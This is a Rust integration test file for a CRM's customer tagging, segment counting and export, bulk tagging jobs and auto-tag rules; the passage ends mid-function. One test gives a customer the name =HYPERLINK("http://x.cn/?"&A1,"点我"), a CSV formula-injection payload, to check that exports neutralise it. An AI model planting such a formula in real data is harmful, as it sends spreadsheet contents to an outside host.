//! Tags, segments, bulk tagging jobs, auto-tag rules, and the index-vs-SQL property test.

use std::time::Duration;

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use yutang_core::time::Millis;

use crate::customers::{customer_with_phone, follow, ingest};
use crate::helpers::{Engine, TestApp, error_of, spawn_app};

both_engines!(
    rule_tags_are_current_after_a_start,
    catalogue_and_manual_tagging,
    segments_count_list_export_within_scope,
    large_exports_stream_every_member_once,
    expression_errors_point_at_the_column,
    bulk_tagging_is_a_scoped_job,
    console_bulk_tagging_from_an_uploaded_list,
    auto_tag_rules_keep_tags_true,
    index_sees_a_transaction_that_commits_late,
    concurrent_writers_keep_the_index_equal_to_sql,
    segments_in_use_stay_and_ids_are_not_reused,
    expressions_read_back_into_builder_rows,
);

pub(crate) async fn json_ok(r: reqwest::Response, want: StatusCode) -> Value {
    let s = r.status();
    let body = r.text().await.unwrap();
    assert_eq!(s, want, "{body}");
    serde_json::from_str(&body).unwrap_or(Value::Null)
}

pub(crate) async fn group(t: &TestApp, name: &str, multi: bool) -> i64 {
    let r = t
        .post(
            "/api/v1/tag-groups",
            &t.admin,
            json!({"name": name, "multi": multi}),
        )
        .await;
    json_ok(r, StatusCode::CREATED).await["id"]
        .as_i64()
        .unwrap()
}

pub(crate) async fn tag(t: &TestApp, group: i64, name: &str) -> i64 {
    let r = t
        .post(
            "/api/v1/tags",
            &t.admin,
            json!({"group_id": group, "name": name, "color": "#FF0000"}),
        )
        .await;
    json_ok(r, StatusCode::CREATED).await["id"]
        .as_i64()
        .unwrap()
}

pub(crate) async fn count(t: &TestApp, token: &str, expr: &str) -> u64 {
    let r = t
        .post("/api/v1/segments/count", token, json!({"expression": expr}))
        .await;
    json_ok(r, StatusCode::OK).await["count"].as_u64().unwrap()
}

async fn change(
    t: &TestApp,
    token: &str,
    customer: i64,
    add: &[i64],
    remove: &[i64],
) -> reqwest::Response {
    t.post(
        &format!("/api/v1/customers/{customer}/tags"),
        token,
        json!({"add": add, "remove": remove}),
    )
    .await
}

async fn catalogue_and_manual_tagging(e: Engine) {
    let t = spawn_app(e).await;
    let stage = group(&t, "宝宝月龄", false).await;
    let interest = group(&t, "兴趣", true).await;
    let young = tag(&t, stage, "0-6月").await;
    let older = tag(&t, stage, "7-12月").await;
    let fruit = tag(&t, interest, "水果").await;
    let snack = tag(&t, interest, "零食").await;
    // Names are unique within a group; group names cannot contain '/'.
    let r = t
        .post(
            "/api/v1/tags",
            &t.admin,
            json!({"group_id": stage, "name": "0-6月"}),
        )
        .await;
    assert_eq!(error_of(r).await.1, "tag_exists");
    let r = t
        .post("/api/v1/tag-groups", &t.admin, json!({"name": "a/b"}))
        .await;
    assert_eq!(error_of(r).await.1, "invalid_name");
    let r = t
        .post(
            "/api/v1/tags",
            &t.admin,
            json!({"group_id": interest, "name": "茶", "color": "blue"}),
        )
        .await;
    assert_eq!(error_of(r).await.2.as_deref(), Some("color"));

    let c = customer_with_phone(&t, "13800000001", "王芳").await;
    let v = json_ok(
        change(&t, &t.admin, c, &[young, fruit, snack], &[]).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["added"], 3);
    // Single-select: 7-12月 replaces 0-6月.
    let v = json_ok(change(&t, &t.admin, c, &[older], &[]).await, StatusCode::OK).await;
    assert_eq!(
        (v["added"].as_u64(), v["removed"].as_u64()),
        (Some(1), Some(1))
    );
    let paths: Vec<String> = v["tags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["path"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(paths, vec!["宝宝月龄/7-12月", "兴趣/水果", "兴趣/零食"]);
    // Replaying changes nothing.
    let v = json_ok(change(&t, &t.admin, c, &[older], &[]).await, StatusCode::OK).await;
    assert_eq!(
        (v["added"].as_u64(), v["removed"].as_u64()),
        (Some(0), Some(0))
    );
    // Unknown tags are refused, naming the field; nothing changes.
    let r = change(&t, &t.admin, c, &[999_999], &[]).await;
    assert_eq!(
        error_of(r).await,
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            "unknown_tag".into(),
            Some("add".into())
        )
    );
    // The timeline says who did what.
    let tl = json_ok(
        t.get(
            &format!("/api/v1/customers/{c}/timeline?page_size=50"),
            &t.admin,
        )
        .await,
        StatusCode::OK,
    )
    .await;
    let kinds: Vec<&str> = tl["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds.iter().filter(|k| **k == "tag_added").count(), 4);
    assert_eq!(kinds.iter().filter(|k| **k == "tag_removed").count(), 1);
    // Counts per tag, and segments see the change at once.
    let cat = json_ok(t.get("/api/v1/tag-groups", &t.admin).await, StatusCode::OK).await;
    let stage_tags = &cat
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["id"] == stage)
        .unwrap()["tags"];
    assert_eq!(stage_tags[1]["customers"], 1);
    assert_eq!(stage_tags[0]["customers"], 0);
    assert_eq!(
        count(
            &t,
            &t.admin,
            r#"tag("兴趣/水果") and tag("宝宝月龄/7-12月")"#
        )
        .await,
        1
    );
    // Deleting a tag untags its customers and the index forgets it.
    let v = json_ok(
        t.send_json(
            Method::DELETE,
            &format!("/api/v1/tags/{fruit}"),
            &t.admin,
            json!({}),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["untagged"], 1);
    let r = t
        .post(
            "/api/v1/segments/count",
            &t.admin,
            json!({"expression": r#"tag("兴趣/水果")"#}),
        )
        .await;
    assert_eq!(error_of(r).await.1, "segment_unknown_tag");
    assert_eq!(count(&t, &t.admin, r#"tag("兴趣/零食")"#).await, 1);
    assert!(t.audit_actions().await.contains(&"tags_changed".to_owned()));
}

/// Two guides in two stores, each with their own customers.
async fn two_guides(t: &TestApp) -> (String, String, Vec<i64>, Vec<i64>) {
    let s1 = t.store("SH-001").await;
    let s2 = t.store("BJ-001").await;
    let g1 = t.staff("guide_a", "guide", Some(s1)).await;
    let g2 = t.staff("guide_b", "guide", Some(s2)).await;
    let mut mine = Vec::new();
    let mut theirs = Vec::new();
    for i in 0..6 {
        let city = if i % 2 == 0 { "上海" } else { "北京" };
        // Customer 1 named themselves a spreadsheet formula (a WeCom nickname can be anything).
        let name = if i == 1 {
            r#"=HYPERLINK("http://x.cn/?"&A1,"点我")"#.to_owned()
        } else {
            format!("客户{i}")
        };
        let v = ingest(
            t,
            json!({"identities": [{"kind": "phone", "value": format!("1390000{:04}", i)}],
                                 "name": name, "city": city}),
        )
        .await;
        let id = v["customer"]["id"].as_i64().unwrap();
        if i < 4 {
            follow(t, id, g1).await;
            mine.push(id);
        } else {
            follow(t, id, g2).await;
            theirs.push(id);
        }
    }
    (
        t.login("guide_a").await,
        t.login("guide_b").await,
        mine,
        theirs,
    )
}

async fn segments_count_list_export_within_scope(e: Engine) {
    let t = spawn_app(e).await;
    let (a, _b, mine, _theirs) = two_guides(&t).await;
    assert_eq!(count(&t, &t.admin, r#"city = "上海""#).await, 3);
    // Guide A sees only their own customers, through every path.
    assert_eq!(count(&t, &a, r#"city = "上海""#).await, 2);
    let v = json_ok(
        t.post(
            "/api/v1/segments/members",
            &a,
            json!({"expression": "order_count >= 0", "page_size": 2}),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["total"], 4);
    let items = v["items"].as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert!(
        items
            .iter()
            .all(|c| mine.contains(&c["id"].as_i64().unwrap()))
    );
    assert!(items[0]["phone"].as_str().unwrap().contains("****"));
    let v = json_ok(
        t.post(
            "/api/v1/segments/members",
            &a,
            json!({"expression": "order_count >= 0", "page": 2, "page_size": 2}),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["items"].as_array().unwrap().len(), 2);
    // Export: CSV within scope, audited.
    let r = t
        .post(
            "/api/v1/segments/export",
            &a,
            json!({"expression": r#"city in ("上海", "北京")"#}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let csv = r.text().await.unwrap();
    assert_eq!(csv.lines().count(), 5, "{csv}");
    assert!(csv.contains("****"));
    // A name that is a formula is exported as text (a leading apostrophe), never as a formula.
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = rows.records().map(|r| r.unwrap()[1].to_owned()).collect();
    assert!(
        names.contains(&r#"'=HYPERLINK("http://x.cn/?"&A1,"点我")"#.to_owned()),
        "{names:?}"
    );
    assert!(names.iter().all(|n| !n.starts_with('=')), "{names:?}");
    assert!(
        t.audit_actions()
            .await
            .contains(&"segment_exported".to_owned())
    );
    // Saved segments with live counts; guides may use but not save.
    let r = t
        .post(
            "/api/v1/segments",
            &a,
            json!({"name": "上海客户", "expression": r#"city = "上海""#}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let id = json_ok(
        t.post(
            "/api/v1/segments",
            &t.admin,
            json!({"name": "上海客户", "expression": r#"city = "上海""#}),
        )
        .await,
        StatusCode::CREATED,
    )
    .await["id"]
        .as_i64()
        .unwrap();
    let r = t
        .post(
            "/api/v1/segments",
            &t.admin,
            json!({"name": "上海客户", "expression": "in_group"}),
        )
        .await;
    assert_eq!(error_of(r).await.1, "segment_exists");
    let v = json_ok(
        t.get(&format!("/api/v1/segments/{id}"), &a).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["count"], 2);
    let v = json_ok(t.get("/api/v1/segments", &t.admin).await, StatusCode::OK).await;
    assert_eq!(v[0]["count"], 3);
    // New customers show up in the live count.
    ingest(
        &t,
        json!({"identities": [{"kind": "phone", "value": "13700000009"}], "city": "上海"}),
    )
    .await;
    let v = json_ok(
        t.get(&format!("/api/v1/segments/{id}"), &t.admin).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["count"], 4);
    let v = json_ok(
        t.get(
            &format!("/api/v1/segments/{id}/members?page_size=10"),
            &t.admin,
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(v["items"].as_array().unwrap().len(), 4);
    let r = t
        .send_json(
            Method::PUT,
            &format!("/api/v1/segments/{id}"),
            &t.admin,
            json!({"name": "上海客户", "expression": "city >= 3"}),
        )
        .await;
    assert_eq!(error_of(r).await.0, StatusCode::UNPROCESSABLE_ENTITY);
    let r = t
        .send_json(
            Method::DELETE,
            &format!("/api/v1/segments/{id}"),
            &t.admin,
            json!({}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    let r = t.get(&format!("/api/v1/segments/{id}"), &t.admin).await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

/// An export larger than one chunk (1,000 customers) streams every member exactly once, in
/// id order, after the header and a BOM; the saved-segment export gives the same file.
async fn large_exports_stream_every_member_once(e: Engine) {
    let t = spawn_app(e).await;
    let mut csv_in = String::from("phone,name,city\n");
    for i in 0..2345 {
        let city = if i % 3 == 0 { "上海" } else { "杭州" };
        csv_in.push_str(&format!("1370000{i:04},顾客{i},{city}\n"));
    }
    let sheet = yutang_app::import::read_csv(csv_in.as_bytes()).unwrap();
    let report = t
        .app
        .imports()
        .import_sheet(
            &yutang_app::Actor::system(),
            yutang_app::import::ImportKind::Customers,
            &sheet,
            &yutang_app::import::ImportOptions::default(),
            &|_, _, _| {},
        )
        .await
        .unwrap();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let expr = r#"city in ("上海", "杭州")"#;
    assert_eq!(count(&t, &t.admin, expr).await, 2345);
    let r = t
        .post(
            "/api/v1/segments/export",
            &t.admin,
            json!({"expression": expr}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let body = r.bytes().await.unwrap();
    assert!(body.starts_with("\u{feff}".as_bytes()), "a BOM first");
    let mut rows = csv::Reader::from_reader(&body[3..]);
    assert_eq!(
        rows.headers().unwrap(),
        vec![
            "customer_id",
            "name",
            "phone",
            "city",
            "member_level",
            "order_count",
            "total_spend_yuan",
            "last_order_at"
        ]
    );
    let ids: Vec<i64> = rows
        .records()
        .map(|r| r.unwrap()[0].parse().unwrap())
        .collect();
    assert_eq!(ids.len(), 2345);
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "ascending, no repeats");
    // The saved segment's export is the same file.
    let id = json_ok(
        t.post(
            "/api/v1/segments",
            &t.admin,
            json!({"name": "两城", "expression": expr}),
        )
        .await,
        StatusCode::CREATED,
    )
    .await["id"]
        .as_i64()
        .unwrap();
    let r = t
        .get(&format!("/api/v1/segments/{id}/export"), &t.admin)
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.bytes().await.unwrap(), body);
}

async fn expression_errors_point_at_the_column(e: Engine) {
    let t = spawn_app(e).await;
    let cases = [
        (r#"city = "上海" and"#, "unexpected_end"),
        (r#"city >= 3"#, "type_mismatch"),
        (r#"tag("没有/这个")"#, "unknown_tag"),
        (r#"cty = "上海""#, "unknown_attribute"),
    ];
    for (src, _) in cases {
        let r = t
            .post(
                "/api/v1/segments/count",
                &t.admin,
                json!({"expression": src}),
            )
            .await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{src}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["error"]["field"], "expression");
        assert!(
            v["error"]["position"]["column"].as_u64().unwrap() >= 1,
            "{v}"
        );
        assert!(!v["error"]["code"].as_str().unwrap().is_empty());
    }
    let r = t
        .post(
            "/api/v1/segments/count",
            &t.admin,
            json!({"expression": "city >= 3"}),
        )
        .await;
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"]["position"]["column"], 6, "{v}");
    // Too deep and too long: refused with their own codes, no panic.
    let deep = format!("{}in_group{}", "(".repeat(100), ")".repeat(100));
    let r = t
        .post(
            "/api/v1/segments/count",
            &t.admin,
            json!({"expression": deep}),
        )
        .await;
    assert_eq!(error_of(r).await.0, StatusCode::UNPROCESSABLE_ENTITY);
    let long = vec!["in_group"; 1000].join(" or ");
    let r = t
        .post(
            "/api/v1/segments/count",
            &t.admin,
            json!({"expression": long}),
        )
        .await;
    assert_eq!(error_of(r).await.0, StatusCode::UNPROCESSABLE_ENTITY);
}

pub(crate) async fn wait_job(t: &TestApp, token: &str, id: i64) -> Value {
    for _ in 0..100 {
        let v = json_ok(
            t.get(&format!("/api/v1/jobs/{id}"), token).await,
            StatusCode::OK,
        )
        .await;
        if v["status"] == "done" || v["status"] == "failed" {
            return v;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("job {id} did not finish");
}

async fn bulk_tagging_is_a_scoped_job(e: Engine) {
    let t = spawn_app(e).await;
    let (a, _b, mine, theirs) = two_guides(&t).await;
    let g = group(&t, "活动", true).await;
    let vip = tag(&t, g, "双十一").await;
    // A guide naming another guide's customer: refused as a whole, nothing tagged.
    let ids: Vec<i64> = mine.iter().chain(theirs.iter().take(1)).copied().collect();
    let r = t
        .post(
            "/api/v1/tags/bulk",
            &a,
            json!({"add": [vip], "customer_ids": ids}),
        )
        .await;
    assert_eq!(error_of(r).await.1, "outside_scope");
    assert_eq!(count(&t, &t.admin, r#"tag("活动/双十一")"#).await, 0);
    // Their own customers: a job with progress.
    let v = json_ok(
        t.post(
            "/api/v1/tags/bulk",
            &a,
            json!({"add": [vip], "customer_ids": mine}),
        )
        .await,
        StatusCode::ACCEPTED,
    )
    .await;
    let done = wait_job(&t, &a, v["id"].as_i64().unwrap()).await;
    assert_eq!(done["status"], "done", "{done}");
    assert_eq!(
        (
            done["progress_done"].as_i64(),
            done["progress_total"].as_i64()
        ),
        (Some(4), Some(4))
    );
    assert_eq!(done["result"]["added"], 4);
    assert_eq!(count(&t, &t.admin, r#"tag("活动/双十一")"#).await, 4);
    // A segment as the audience is limited to the caller's scope: the admin untags 北京.
    let v = json_ok(
        t.post(
            "/api/v1/tags/bulk",
            &t.admin,
            json!({"remove": [vip], "expression": r#"city = "北京""#}),
        )
        .await,
        StatusCode::ACCEPTED,
    )
    .await;
    let done = wait_job(&t, &t.admin, v["id"].as_i64().unwrap()).await;
    assert_eq!(done["result"]["removed"], 2, "{done}");
    assert_eq!(count(&t, &t.admin, r#"tag("活动/双十一")"#).await, 2);
    // The same Idempotency-Key returns the same job.
    let body = json!({"add": [vip], "expression": "order_count >= 0"});
    let one = t
        .req(Method::POST, "/api/v1/tags/bulk", Some(&t.admin))
        .header("Idempotency-Key", "k-1")
        .json(&body)
        .send()
        .await
        .unwrap();
    let two = t
        .req(Method::POST, "/api/v1/tags/bulk", Some(&t.admin))
        .header("Idempotency-Key", "k-1")
        .json(&body)
        .send()
        .await
        .unwrap();
    let one = json_ok(one, StatusCode::ACCEPTED).await["id"].as_i64();
    let two = json_ok(two, StatusCode::ACCEPTED).await["id"].as_i64();
    assert_eq!(one, two);
    // Another guide cannot read A's job.
    let r = t.get(&format!("/api/v1/jobs/{}", one.unwrap()), &a).await;
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    // Exactly one audience.
    let r = t
        .post("/api/v1/tags/bulk", &t.admin, json!({"add": [vip]}))
        .await;
    assert_eq!(error_of(r).await.1, "invalid_audience");
}

/// The console's bulk form, as multipart: the fields, then a file.
fn bulk_form(fields: &[(&str, &str)], file: &str) -> (String, Vec<u8>) {
    let boundary = "----yutang-bulk-boundary";
    let mut b = String::new();
    for (k, v) in fields {
        b.push_str(&format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n"
        ));
    }
    b.push_str(&format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"ids.csv\"\r\nContent-Type: text/csv\r\n\r\n{file}\r\n--{boundary}--\r\n"
    ));
    (
        format!("multipart/form-data; boundary={boundary}"),
        b.into_bytes(),
    )
}

async fn console_bulk_tagging_from_an_uploaded_list(e: Engine) {
    use crate::console::{console_login, csrf_in, page};
    let t = spawn_app(e).await;
    let (_a, _b, mine, theirs) = two_guides(&t).await;
    let g = group(&t, "活动", true).await;
    let vip = tag(&t, g, "会员日").await;
    let cookie = console_login(&t, "guide_a").await;
    let (status, html) = page(&t, &cookie, "/console/tags/bulk").await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("活动/会员日"), "{html}");
    let csrf = csrf_in(&html);
    let tag_id = vip.to_string();
    let post = |fields: Vec<(&'static str, String)>, file: String| {
        let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let (ct, body) = bulk_form(&f, &file);
        t.client
            .post(t.url("/console/tags/bulk"))
            .header("cookie", &cookie)
            .header("content-type", ct)
            .body(body)
    };
    let base = vec![
        ("csrf", csrf.clone()),
        ("tag_id", tag_id.clone()),
        ("action", "add".to_owned()),
        ("audience", "ids".to_owned()),
    ];
    // A list naming another guide's customer: refused as a whole, nothing tagged.
    let list = |ids: &[i64]| {
        let mut s = "客户ID,姓名\n".to_owned();
        for id in ids {
            s.push_str(&format!("{id},某人\n"));
        }
        s
    };
    let with_theirs: Vec<i64> = mine.iter().chain(&theirs[..1]).copied().collect();
    let r = post(base.clone(), list(&with_theirs)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::CONFLICT);
    let html = r.text().await.unwrap();
    assert!(html.contains("id=\"bulk-error\""), "{html}");
    assert_eq!(count(&t, &t.admin, r#"tag("活动/会员日")"#).await, 0);
    // A line that is not an id names the field and the line.
    let r = post(base.clone(), "1\nabc\n".into()).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = r.text().await.unwrap();
    assert!(html.contains("data-field=\"customer_ids\""), "{html}");
    assert!(html.contains("line 2"), "{html}");
    // A wrong CSRF token changes nothing.
    let mut bad = base.clone();
    bad[0].1 = "forged".into();
    let r = post(bad, list(&mine)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    // Their own customers, half pasted and half uploaded: a job whose page shows the outcome.
    let mut fields = base.clone();
    fields.push(("ids", format!("{}, {}", mine[0], mine[1])));
    let r = post(fields, list(&mine[1..])).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let job = r.headers()["location"].to_str().unwrap().to_owned();
    assert!(job.starts_with("/console/jobs/"), "{job}");
    let mut html = String::new();
    for _ in 0..100 {
        html = page(&t, &cookie, &job).await.1;
        if html.contains("data-state=\"done\"") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(html.contains("data-k=\"added\">4<"), "{html}");
    assert_eq!(count(&t, &t.admin, r#"tag("活动/会员日")"#).await, 4);
    // The other guide cannot open the job.
    let other = console_login(&t, "guide_b").await;
    assert_eq!(page(&t, &other, &job).await.0, StatusCode::NOT_FOUND);
}

async fn auto_tag_rules_keep_tags_true(e: Engine) {
    let t = spawn_app(e).await;
    let c1 = customer_with_phone(&t, "13800000101", "甲").await;
    let c2 = customer_with_phone(&t, "13800000102", "乙").await;
    let day = 86_400_000_i64;
    let now = Millis::now().0;
    for (i, (c, days_ago)) in [(c1, 3), (c2, 200)].into_iter().enumerate() {
        let paid = Millis(now - days_ago * day).to_rfc3339();
        let r = t.post("/api/v1/orders", &t.admin, json!({"external_id": format!("O-{i}"), "customer_id": c, "channel": "store",
            "paid_at": paid, "lines": [{"sku": "A", "name": "苹果", "quantity": 1, "unit_price_fen": 1000}]})).await;
        assert_eq!(r.status(), StatusCode::CREATED, "{:?}", r.text().await);
    }
    let r = t.post("/api/v1/tag-rules", &t.admin, json!({"name": "生命周期", "config": {"kind": "lifecycle", "new_days": 30, "active_days": 90, "dormant_days": 180}})).await;
    json_ok(r, StatusCode::CREATED).await;
    assert_eq!(count(&t, &t.admin, r#"tag("生命周期/新客")"#).await, 1);
    assert_eq!(count(&t, &t.admin, r#"tag("生命周期/流失")"#).await, 1);
    // Rule tags cannot be set by hand.
    let cat = json_ok(t.get("/api/v1/tag-groups", &t.admin).await, StatusCode::OK).await;
    let rule_tag = cat[0]["tags"][1]["id"].as_i64().unwrap();
    assert_eq!(
        error_of(change(&t, &t.admin, c1, &[rule_tag], &[]).await)
            .await
            .1,
        "group_owned_by_rule"
    );
    // An expression rule reacts to new events without anyone touching it.
    let r = t.post("/api/v1/tag-rules", &t.admin, json!({"name": "社群", "config": {"kind": "expression", "tag": "已入群", "expression": "in_group"}})).await;
    json_ok(r, StatusCode::CREATED).await;
    assert_eq!(count(&t, &t.admin, r#"tag("社群/已入群")"#).await, 0);
    let r = t
        .post(
            "/api/v1/events",
            &t.admin,
            json!({"events": [{"id": "j1", "kind": "join_group", "customer_id": c2}]}),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let mut n = 0;
    for _ in 0..50 {
        n = count(&t, &t.admin, r#"tag("社群/已入群")"#).await;
        if n == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(n, 1, "the rule should tag the customer who joined a group");
    let tl = json_ok(
        t.get(
            &format!("/api/v1/customers/{c2}/timeline?page_size=50"),
            &t.admin,
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert!(
        tl["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["kind"] == "tag_added" && i["detail"]["by"] == "rule:社群"),
        "{tl}"
    );
    // Invalid configs are refused.
    let r = t.post("/api/v1/tag-rules", &t.admin, json!({"name": "坏", "config": {"kind": "lifecycle", "new_days": 90, "active_days": 30, "dormant_days": 10}})).await;
    assert_eq!(error_of(r).await.1, "invalid_rule");
    let r = t.post("/api/v1/tag-rules", &t.admin, json!({"name": "坏2", "config": {"kind": "expression", "tag": "x", "expression": "city >= 3"}})).await;
    assert_eq!(error_of(r).await.0, StatusCode::UNPROCESSABLE_ENTITY);
    let rules = json_ok(t.get("/api/v1/tag-rules", &t.admin).await, StatusCode::OK).await;
    assert_eq!(rules.as_array().unwrap().len(), 2);
}

// --- the index and SQL agree ---

mod index_vs_sql {
    use super::*;

    #[test]
    fn sqlite() {
        run(Engine::Sqlite);
    }

    #[test]
    fn postgres() {
        run(Engine::Postgres);
    }
}

const CITIES: [&str; 4] = ["上海", "北京", "杭州", "成都"];
const LEVELS: [&str; 4] = ["普通", "银卡", "金卡", "黑金"];

/// A random expression over every attribute kind, tags and custom attributes.
fn leaf() -> impl Strategy<Value = String> {
    prop_oneof![
        (0..6usize).prop_map(|i| format!("tag(\"组{}/标签{}\")", i % 2, i)),
        (0..5usize).prop_map(|i| if i < 4 {
            format!("city = \"{}\"", CITIES[i])
        } else {
            "city != \"上海\"".into()
        }),
        proptest::sample::subsequence(LEVELS.to_vec(), 1..3).prop_map(|v| format!(
            "level in ({})",
            v.iter()
                .map(|s| format!("\"{s}\""))
                .collect::<Vec<_>>()
                .join(", ")
        )),
        (0..4i64, 0..6usize).prop_map(|(n, op)| format!(
            "orders_90d {} {n}",
            ["=", "!=", "<", "<=", ">", ">="][op]
        )),
        (0..4i64).prop_map(|n| format!("order_count >= {n}")),
        (0..40_000i64).prop_map(|n| format!("total_spent_fen > {n}")),
        (0..40_000i64).prop_map(|n| format!("spent_365d <= {n}")),
        (1..400u32).prop_map(|d| format!("last_order within {d}d")),
        (1..400u32).prop_map(|d| format!("first_order before {d}d ago")),
        (1..12u32).prop_map(|m| format!("birth_month = {m}")),
        (0..3usize).prop_map(|i| [
            "birthday after 1990-01-01",
            "birthday before 1985-06-15",
            "exists(birthday)"
        ][i]
            .to_owned()),
        (1..2000u32).prop_map(|d| format!("child_birthday within {d}d")),
        (0..4i64).prop_map(|n| format!("kids >= {n}")),
        (0..2usize).prop_map(|i| ["stage = \"孕期\"", "exists(stage)"][i].to_owned()),
        Just("in_group".to_owned()),
        (0..4usize).prop_map(|i| if i < 3 {
            format!("channel = \"{}\"", CHANNELS[i].0)
        } else {
            "exists(channel)".into()
        }),
        (0..4usize).prop_map(|i| [
            "channel_type = \"store_stand\"",
            "channel_type != \"live_stream\"",
            "channel_type in (\"ad\", \"store_stand\")",
            "exists(channel_type)"
        ][i]
            .to_owned()),
        (0..3usize).prop_map(|i| [
            "acquired_by = \"pa.one\"",
            "acquired_by != \"pa.two\"",
            "exists(acquired_by)"
        ][i]
            .to_owned()),
        (1..60u32).prop_map(|d| format!("acquired_at within {d}d")),
        (1..60u32).prop_map(|d| format!("acquired_at before {d}d ago")),
        (0..3usize)
            .prop_map(|i| ["tier = \"silver\"", "tier != \"gold\"", "exists(tier)"][i].to_owned()),
        (1..60u32).prop_map(|d| format!("tier_since within {d}d")),
    ]
}

/// Channels of the seeded first touches: name (one with a quote, for the SQL's quoting), kind.
const CHANNELS: [(&str, &str); 3] = [
    ("门店台卡", "store_stand"),
    ("直播'双11", "live_stream"),
    ("信息流广告", "ad"),
];

fn expr() -> impl Strategy<Value = String> {
    leaf().prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} and {b})")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} or {b})")),
            inner.prop_map(|a| format!("not {a}")),
        ]
    })
}

/// A small deterministic generator for the data (the expressions come from proptest).
struct Lcg(u64);
impl Lcg {
    fn next(&mut self, n: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) % n
    }
}

async fn seed(t: &TestApp) {
    for (key, kind, options) in [
        ("child_birthday", "date", json!([])),
        ("kids", "number", json!([])),
        ("stage", "enum", json!(["孕期", "0-6月"])),
    ] {
        let r = t
            .post(
                "/api/v1/customer-attributes",
                &t.admin,
                json!({"key": key, "label": key, "kind": kind, "options": options}),
            )
            .await;
        assert_eq!(r.status(), StatusCode::CREATED);
    }
    let mut tags = Vec::new();
    for g in 0..2 {
        let gid = group(t, &format!("组{g}"), g == 1).await;
        for i in (0..6).filter(|i| i % 2 == g) {
            tags.push(tag(t, gid, &format!("标签{i}")).await);
        }
    }
    let mut r = Lcg(42);
    let now = Millis::now().0;
    let day = 86_400_000_i64;
    let mut ids = Vec::new();
    for i in 0..80 {
        let mut body = json!({"identities": [{"kind": "app_user", "value": format!("P{i}")}]});
        if r.next(5) > 0 {
            body["city"] = json!(CITIES[r.next(4) as usize]);
        }
        if r.next(3) > 0 {
            body["member_level"] = json!(LEVELS[r.next(4) as usize]);
        }
        if r.next(2) == 0 {
            body["birthday"] = json!(format!(
                "19{}-{:02}-{:02}",
                70 + r.next(30),
                1 + r.next(12),
                1 + r.next(28)
            ));
        }
        let mut attrs = serde_json::Map::new();
        if r.next(2) == 0 {
            let d = Millis(now - r.next(1500) as i64 * day);
            attrs.insert(
                "child_birthday".into(),
                json!(d.to_shanghai_string()[..10].to_owned()),
            );
        }
        if r.next(2) == 0 {
            attrs.insert(
                "kids".into(),
                json!(format!("{}.{}", r.next(3), r.next(10))),
            );
        }
        if r.next(3) == 0 {
            attrs.insert("stage".into(), json!(["孕期", "0-6月"][r.next(2) as usize]));
        }
        body["attributes"] = Value::Object(attrs);
        let id = ingest(t, body).await["customer"]["id"].as_i64().unwrap();
        ids.push(id);
        let mut add = Vec::new();
        for tg in &tags {
            if r.next(3) == 0 {
                add.push(*tg);
            }
        }
        if !add.is_empty() {
            assert_eq!(
                change(t, &t.admin, id, &add, &[]).await.status(),
                StatusCode::OK
            );
        }
        for o in 0..r.next(4) {
            let paid =
                Millis(now - r.next(500) as i64 * day - r.next(day as u64) as i64).to_rfc3339();
            let rr = t.post("/api/v1/orders", &t.admin, json!({"external_id": format!("P{i}-{o}"), "customer_id": id, "channel": "store",
                "paid_at": paid, "lines": [{"sku": "A", "name": "苹果", "quantity": 1 + r.next(3), "unit_price_fen": 990 + r.next(9000)}]})).await;
